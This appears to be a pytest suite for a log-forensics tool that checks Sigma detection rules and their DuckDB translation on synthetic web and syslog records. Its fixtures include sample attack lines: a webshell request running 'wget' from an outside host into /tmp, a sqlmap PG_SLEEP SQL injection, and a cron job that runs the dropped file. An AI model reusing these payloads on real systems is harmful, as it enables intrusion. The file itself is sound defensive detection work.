"""Sigma rules over a tiny case: conversion, field mapping, DuckDB translation, rule errors."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from logsalvage.config import CaseConfig
from logsalvage.detect import sigma
from logsalvage.detect.context import Context, settings_from
from logsalvage.errors import ConfigError
from logsalvage.ingest import ingest
from logsalvage.store import CaseStore

ACCESS = [
    '79.122.31.4 - - [15/Jul/2017:08:58:21 +0900] "GET /wp-contacts.php?c=id HTTP/1.1" 200 512 "-" "Mozilla/5.0 (Windows NT 6.1)"',
    '79.122.31.4 - - [15/Jul/2017:08:59:02 +0900] "GET /wp-contacts.php?c=uname%20-a HTTP/1.1" 200 600 "-" "python-requests/2.12.4"',
    '79.122.31.4 - - [15/Jul/2017:09:00:10 +0900] "GET /wp-contacts.php?c=cd%20%2Ftmp%3Bwget%20http%3A%2F%2F198.51.100.23%2Fupd HTTP/1.1" 200 80 "-" "-"',
    '58.218.98.185 - - [20/Jul/2017:05:39:01 +0900] "GET /phpMyAdmin/scripts/setup.php HTTP/1.1" 404 209 "-" "ZmEu"',
    '58.218.98.185 - - [20/Jul/2017:05:39:02 +0900] "GET /wp-login.php HTTP/1.1" 404 209 "http://example.net/" "Mozilla/5.0"',
    '203.0.113.9 - - [20/Jul/2017:06:00:00 +0900] "GET /wp-login.php HTTP/1.1" 200 3000 "-" "Mozilla/5.0"',
    '185.100.87.206 - - [20/Jul/2017:14:12:29 +0900] "GET /reserve.php?voyage=1%29%3BSELECT%20PG_SLEEP%285%29-- HTTP/1.1" 200 1874 "-" "sqlmap/1.1.6#stable"',
    '185.100.87.206 - - [20/Jul/2017:14:12:31 +0900] "GET /search.php?q=50%25_off HTTP/1.1" 200 1874 "-" "Mozilla/5.0"',
    '192.0.2.5 - - [21/Jul/2017:10:00:00 +0900] "POST /index.php HTTP/1.1" 302 0 "-" "Mozilla/5.0"',
]
SYSLOG = [
    "Jul 21 07:23:06 web01 crontab[22904]: (nobody) REPLACE (nobody)",
    "Jul 21 07:24:01 web01 crond[712]: (nobody) RELOAD (/var/spool/cron/nobody)",
    "Jul 21 07:25:01 web01 CROND[22909]: (nobody) CMD (/tmp/upd >/dev/null 2>&1)",
    "Jul 21 07:26:01 web01 CROND[22910]: (root) CMD (/usr/lib64/sa/sa1 1 1)",
    "Jul 21 08:00:00 web01 crontab[1145]: (root) LIST (root)",
    "Jul 21 09:00:00 web01 sshd[5320]: Failed password for root from 195.22.35.151 port 36018 ssh2",
    "Jul 21 09:00:05 web01 sshd[5321]: Invalid user ubuntu from 195.22.35.152 port 60594",
    "Jul 21 09:10:00 web01 kernel: Out of memory: Kill process 123 (httpd) score 900",
]


def _case(tmp_path: Path, backup_access: list[str] | None = None) -> Path:
    ev = tmp_path / "evidence"
    (ev / "web01/var/log/httpd").mkdir(parents=True)
    (ev / "web01/var/log/httpd/access_log").write_text("\n".join(ACCESS) + "\n")
    (ev / "web01/var/log/messages").write_text("\n".join(SYSLOG) + "\n")
    case = tmp_path / "case"
    ingest([ev], case, host="web01", config=CaseConfig())
    if backup_access:
        bk = tmp_path / "backup"
        bk.mkdir()
        (bk / "access_log.1").write_text("\n".join(backup_access) + "\n")
        ingest([bk], case, host="web01", kind="backup", config=CaseConfig())
    return case


@pytest.fixture(scope="module")
def case(tmp_path_factory) -> Path:
    return _case(tmp_path_factory.mktemp("sigma"))


def _run(case: Path, rule_dirs=(), packaged=True) -> sigma.SigmaRun:
    with CaseStore(case) as store:
        return sigma.run(Context(store, settings_from(CaseConfig())), rule_dirs, packaged=packaged)


def _rule(tmp_path: Path, name: str, text: str) -> Path:
    d = tmp_path / "rules"
    d.mkdir(exist_ok=True)
    (d / name).write_text(textwrap.dedent(text))
    return d


def _by_rule(run: sigma.SigmaRun) -> dict[str, list]:
    out: dict[str, list] = {}
    for f in run.findings:
        out.setdefault(f.rule, []).append(f)
    return out


def _raw(case: Path, event_ids) -> list[str]:
    with CaseStore(case, read_only=True) as store:
        marks = ", ".join("?" for _ in event_ids)
        return [r[0] for r in store.query(f"SELECT raw FROM events WHERE event_id IN ({marks}) ORDER BY ts_utc",
                                          list(event_ids))]


# -- packaged rules ----------------------------------------------------------------------------
def test_packaged_rules_load_without_skips():
    rules = sigma.load_rules([sigma.RULES_DIR])
    assert len(rules) >= 10 and not rules.skipped
    assert all(r.rule_id.startswith("sigma.") and r.sigma_id for r in rules)
    assert len({r.rule_id for r in rules}) == len(rules)


def test_packaged_rules_on_a_tiny_case(case):
    found = _by_rule(_run(case))
    shell = found["sigma.web_webshell_command_parameter"]
    assert len(shell) == 1 and shell[0].host == "web01" and shell[0].severity == "high"
    assert shell[0].count == 3 and shell[0].sources == ("79.122.31.4",)
    assert "c=id" in shell[0].detail["examples"][0]
    # answered 404 counts as a probe; the same path answered 200 does not
    probe = found["sigma.web_scanner_probe"][0]
    assert probe.severity == "low" and probe.count == 2 and probe.sources == ("58.218.98.185",)
    assert found["sigma.web_scanner_user_agent"][0].count == 2  # ZmEu, sqlmap
    assert found["sigma.web_sql_injection"][0].count == 1  # PG_SLEEP; '50%_off' is not SQL
    assert found["sigma.web_remote_download_command"][0].count == 1
    assert found["sigma.web_os_command_injection"][0].count == 1
    crontab = found["sigma.lnx_crontab_edit_by_web_user"][0]
    assert crontab.count == 1 and "REPLACE" in _raw(case, crontab.event_ids)[0]
    assert found["sigma.lnx_cron_job_as_web_user"][0].count == 1
    fails = found["sigma.lnx_failed_authentication"][0]
    assert fails.count == 2 and fails.sources == ("195.22.35.151", "195.22.35.152")
    assert "sigma.web_path_traversal" not in found
    assert all(f.first_seen <= f.last_seen for f in _run(case).findings)


def test_finding_detail_and_times(case):
    shell = _by_rule(_run(case))["sigma.web_webshell_command_parameter"][0]
    assert shell.first_seen.isoformat() == "2017-07-14T23:58:21+00:00"
    assert shell.last_seen.isoformat() == "2017-07-15T00:00:10+00:00"
    d = shell.detail
    assert d["sigma_id"] and d["level"] == "high" and d["logsource"] == {"category": "webserver"}
    assert d["file"] == "logsalvage:detect/rules/web_webshell_command_parameter.yml"
    assert d["events"] == 3 and "attack.t1505.003" in d["tags"]
    assert shell.as_dict()["rule"] == "sigma.web_webshell_command_parameter"


def test_copies_of_a_record_count_once(tmp_path):
    case = _case(tmp_path, backup_access=[ACCESS[0], '10.1.1.1 - - [01/Jul/2017:00:00:00 +0900] "GET /x?cmd=ls HTTP/1.1" 404 1 "-" "-"'])
    shell = _by_rule(_run(case))["sigma.web_webshell_command_parameter"][0]
    assert shell.count == 4 and shell.detail["events"] == 5  # ACCESS[0] in the live file and the backup
    assert len(shell.event_ids) == 4
    with CaseStore(case, read_only=True) as store:
        kinds = [r[0] for r in store.query(
            "SELECT kind FROM events WHERE event_id IN (SELECT unnest(?::VARCHAR[])) AND raw LIKE '%c=id %'",
            [list(shell.event_ids)])]
    assert kinds == ["live"]  # the live copy names the record


# -- field mapping and translation --------------------------------------------------------------
WEB_RULE = """\
title: Mapped fields
id: 0b1f5d0e-0000-4000-8000-000000000001
logsource:
    category: webserver
detection:
    selection:
        c-uri|contains: 'WP-CONTACTS.PHP?C='
        cs-method: 'get'
        sc-status: 200
        c-ip|cidr: '79.122.0.0/16'
    ua:
        cs-user-agent|startswith: 'python-requests/'
    condition: selection and ua
level: informational
"""


def test_web_fields_map_to_columns_case_insensitively(case, tmp_path):
    run = _run(case, [_rule(tmp_path, "mapped.yml", WEB_RULE)], packaged=False)
    (f,) = run.findings
    assert f.rule == "sigma.0b1f5d0e-0000-4000-8000-000000000001" and f.severity == "info"
    assert f.count == 1 and "uname%20-a" in _raw(case, f.event_ids)[0]


@pytest.mark.parametrize("detection,expected", [
    ({"cs-referer|contains": "example.net"}, 1),
    ({"cs-uri-stem|endswith": "/SETUP.PHP"}, 1),
    ({"cs-uri-query|contains": "%25_off"}, 1),  # literal '%' and '_' (a contains on lower())
    ({"cs-uri-query|contains": "50%_"}, 0),  # not a wildcard
    ({"url_decoded|contains": "50%_off"}, 1),  # the decoded query
    ({"sc-status|startswith": "4"}, 2),  # a string match on a number column
    ({"sc-status|gte": 300, "sc-status|lt": 400}, 1),
    ({"http_status": "302"}, 1),  # canonical names are fields too
    ({"cs-method|re": "^P(OST|UT)$"}, 1),
    ({"cs-method|re": "^post$"}, 0),  # regular expressions keep their case
    ({"cs-method|re|i": "^post$"}, 1),
    ({"cs-user-agent|cased": "zmeu"}, 0),
    ({"cs-user-agent|cased": "ZmEu"}, 1),
    ({"cs-user-agent": "zmeu"}, 1),  # plain equality ignores case
    ({"cs-user-agent": "zme"}, 0),
    ({"cs-username|exists": True}, 0),
    ({"c-ip": "203.0.113.*"}, 1),
    ({"extra.trailing|contains": "x"}, 0),  # a field the format captured beyond the canonical ones
    ({"cs-bytes|exists": False}, None),  # no such column: the rule is skipped
])
def test_translation(case, tmp_path, detection, expected):
    import yaml

    rule = {"title": "t", "logsource": {"category": "webserver"},
            "detection": {"sel": detection, "condition": "sel"}}
    d = _rule(tmp_path, "t.yml", yaml.safe_dump(rule))
    run = _run(case, [d], packaged=False)
    if expected is None:
        assert len(run.rules) == 0 and run.rules.skipped[0].reason.startswith("conversion: field 'cs-bytes'")
        return
    assert not run.failed, run.failed
    assert sum(f.count for f in run.findings) == expected


def test_not_over_a_missing_field_is_true(case, tmp_path):
    # Sigma reads a condition on a field the event lacks as false, so 'not filter' keeps the event
    d = _rule(tmp_path, "n.yml", """\
        title: not null
        logsource: {category: webserver}
        detection:
            sel: {sc-status: 200}
            filter: {cs-uri-query|contains: 'voyage'}
            condition: sel and not filter
        """)
    (f,) = _run(case, [d], packaged=False).findings
    assert f.count == 5  # 6 answered 200, one of them with voyage= in the query; 2 of the 5 have no query


def test_syslog_keywords_and_user_field(case, tmp_path):
    d = _rule(tmp_path, "k.yml", """\
        title: keywords
        logsource: {product: linux}
        detection:
            keywords: ['out of memory', 'REPLACE', 22909]
            condition: keywords
        ---
        title: cron user
        name: cron_user
        logsource: {product: linux, service: cron}
        detection:
            sel: {User: NOBODY, CommandLine|contains: '/tmp/'}
            condition: sel
        level: critical
        ---
        title: auth only
        name: auth_only
        logsource: {product: linux, service: auth}
        detection:
            keywords: ['(nobody)', 'root']
            condition: keywords
        """)
    found = _by_rule(_run(case, [d], packaged=False))
    assert found["sigma.keywords"][0].count == 3  # a number keyword is its text: CROND[22909]
    cron = found["sigma.cron_user"][0]
    assert cron.count == 1 and cron.severity == "critical"
    assert found["sigma.auth_only"][0].count == 1  # sshd's line about root; the cron lines are not auth


# -- rules the case cannot run -----------------------------------------------------------------
def test_unsupported_logsources_are_skipped_and_counted(tmp_path):
    d = _rule(tmp_path, "w.yml", """\
        title: windows
        logsource: {product: windows, category: process_creation}
        detection: {sel: {Image|endswith: '\\cmd.exe'}, condition: sel}
        ---
        title: proxy
        logsource: {category: proxy}
        detection: {sel: {c-uri|contains: 'x'}, condition: sel}
        ---
        title: auditd
        logsource: {product: linux, service: auditd}
        detection: {sel: {type: EXECVE}, condition: sel}
        ---
        title: ok
        logsource: {category: webserver}
        detection: {sel: {c-uri|contains: 'x'}, condition: sel}
        """)
    rules = sigma.load_rules([d])
    assert [r.title for r in rules] == ["ok"]
    assert rules.skipped_counts() == {"logsource": 3}
    assert rules.skipped[0].reason == "logsource: no events for category=process_creation/product=windows"
    assert all(s.path == str(d / "w.yml") for s in rules.skipped)


def test_correlation_rules_and_duplicate_ids_are_skipped(tmp_path):
    d = _rule(tmp_path, "c.yml", """\
        title: base
        name: base_rule
        logsource: {category: webserver}
        detection: {sel: {sc-status: 404}, condition: sel}
        ---
        title: many 404
        correlation:
            type: event_count
            rules: [base_rule]
            group-by: [c-ip]
            timespan: 1h
            condition: {gte: 10}
        """)
    _rule(tmp_path, "d.yml", """\
        title: standalone
        name: standalone
        logsource: {category: webserver}
        detection: {sel: {sc-status: 403}, condition: sel}
        """)
    _rule(tmp_path, "e.yml", """\
        title: standalone again
        name: standalone
        logsource: {category: webserver}
        detection: {sel: {sc-status: 401}, condition: sel}
        """)
    rules = sigma.load_rules([d])
    assert [r.rule_id for r in rules] == ["sigma.standalone"] and rules[0].title == "standalone"
    # the correlation, and its base rule (Sigma 2: not run on its own unless 'generate: true')
    assert rules.skipped_counts() == {"unsupported": 2, "duplicate": 1}


@pytest.mark.parametrize("text,message", [
    ("title: broken\nlogsource: {category: webserver\ndetection: x\n", "not valid YAML"),
    ("title: no condition\nlogsource: {category: webserver}\ndetection:\n    sel: {c-uri: x}\n", "not a valid Sigma rule"),
    ("title: bad modifier\nlogsource: {category: webserver}\ndetection:\n"
     + "    sel: {c-uri|nosuchmodifier: x}\n    condition: sel\n", "not a valid Sigma rule"),
    ("title: bad condition\nlogsource: {category: webserver}\ndetection: {sel: {c-uri: x}, condition: sel and}\n",
     "not a valid Sigma rule"),
    ("title: undefined\nlogsource: {category: webserver}\ndetection: {sel: {c-uri: x}, condition: other}\n",
     "Detection 'other' not defined"),
    ("- just\n- a list\n", "not a valid Sigma rule"),
])
def test_invalid_rule_file_is_a_config_error_naming_it(tmp_path, text, message):
    d = tmp_path / "rules"
    (d / "sub").mkdir(parents=True)
    (d / "sub" / "fine.yml").write_text("title: fine\nlogsource: {category: webserver}\n"
                                        "detection: {sel: {c-uri: x}, condition: sel}\n")
    bad = d / "sub" / "zz_bad.yml"
    bad.write_text(text)
    with pytest.raises(ConfigError) as err:
        sigma.load_rules([d])
    assert str(bad) in str(err.value) and message in str(err.value)
    assert err.value.exit_code == 2


def test_missing_rules_directory_is_a_config_error(tmp_path):
    with pytest.raises(ConfigError, match="no such rules directory"):
        sigma.load_rules([tmp_path / "nope"])


def test_regex_re2_cannot_compile_is_an_invalid_rule(tmp_path):
    # pySigma checks regular expressions with RE2, the engine DuckDB runs them with
    d = _rule(tmp_path, "r.yml", """\
        title: lookahead
        logsource: {category: webserver}
        detection: {sel: {c-uri|re: 'c=(?!id)'}, condition: sel}
        """)
    with pytest.raises(ConfigError, match="r.yml: not a valid Sigma rule: Regular expression"):
        sigma.load_rules([d])


def test_a_rule_whose_query_fails_is_reported_not_raised(case, tmp_path, monkeypatch):
    d = _rule(tmp_path, "q.yml", """\
        title: needs a json field
        logsource: {category: webserver}
        detection: {sel: {extra.blocks|contains: '1'}, condition: sel}
        ---
        title: fine
        logsource: {category: webserver}
        detection: {sel: {c-uri|re: 'c=id'}, condition: sel}
        """)
    real = sigma.rule_sql
    monkeypatch.setattr(sigma, "rule_sql", lambda r: real(r).replace("json_extract_string", "no_such_function"))
    run = _run(case, [d], packaged=False)
    assert [f.title for f in run.findings] == ["fine"]
    assert len(run.failed) == 1 and run.failed[0].reason.startswith("query:")
    assert run.as_dict()["rules_loaded"] == 2


def test_match_forms():
    """The string-match forms DuckDB runs fastest, by what the pattern holds."""
    from sigma.types import SpecialChars

    W = SpecialChars.WILDCARD_MULTI
    m = sigma.DuckDBBackend._match
    assert m('"f"', (W, "Nikto", W)) == """"f" ILIKE '%Nikto%'"""
    assert m('"f"', (W, "://", W)) == """"f" LIKE '%://%'"""  # nothing to fold: case-sensitive is exact
    assert m('"f"', (W, "pg_sleep(", W)) == """contains(lower("f"), 'pg_sleep(')"""
    assert m('"f"', ("a_b", W)) == """starts_with(lower("f"), 'a_b')"""
    assert m('"f"', (W, "50%")) == """ends_with("f", '50%')"""
    assert m('"f"', ("O'_x",)) == """lower("f") = 'o''_x'"""
    assert m('"f"', ("a_", W, "b")) == """lower("f") LIKE 'a\\_%b' ESCAPE '\\'"""


def test_sigma1_aggregation_is_skipped_not_an_error(tmp_path):
    d = _rule(tmp_path, "a.yml", """\
        title: many users from one host
        logsource: {product: linux, service: auth}
        detection:
            sel: {pam_message: authentication failure, pam_user: '*', pam_rhost: '*'}
            timeframe: 24h
            condition: sel | count(pam_user) by pam_rhost > 3
        """)
    rules = sigma.load_rules([d])
    assert not rules and rules.skipped[0].reason.startswith("unsupported: Sigma 1 aggregation")


def test_journal_records_meet_the_linux_rules(tmp_path):
    """A systemd host's journal (tests/data/journal, written by systemd-journal-remote) feeds the
    same Linux rules as its syslog: the reader gives its entries syslog's programs and event types."""
    import lzma

    data = Path(__file__).resolve().parents[1] / "data/journal/system.journal.xz"
    journal = tmp_path / "evidence/web01/var/log/journal/4a2b1c3d5e6f47a8b9c0d1e2f3a4b5c6/system.journal"
    journal.parent.mkdir(parents=True)
    journal.write_bytes(lzma.decompress(data.read_bytes()))
    ingest([tmp_path / "evidence"], tmp_path / "case", host="web01", config=CaseConfig())
    fails = _by_rule(_run(tmp_path / "case"))["sigma.lnx_failed_authentication"]
    assert fails and all(f.sources for f in fails)
    with CaseStore(tmp_path / "case", read_only=True) as store:
        formats = {r[0] for r in store.query("SELECT DISTINCT format_id FROM events")}
    assert formats == {"systemd-journal"}
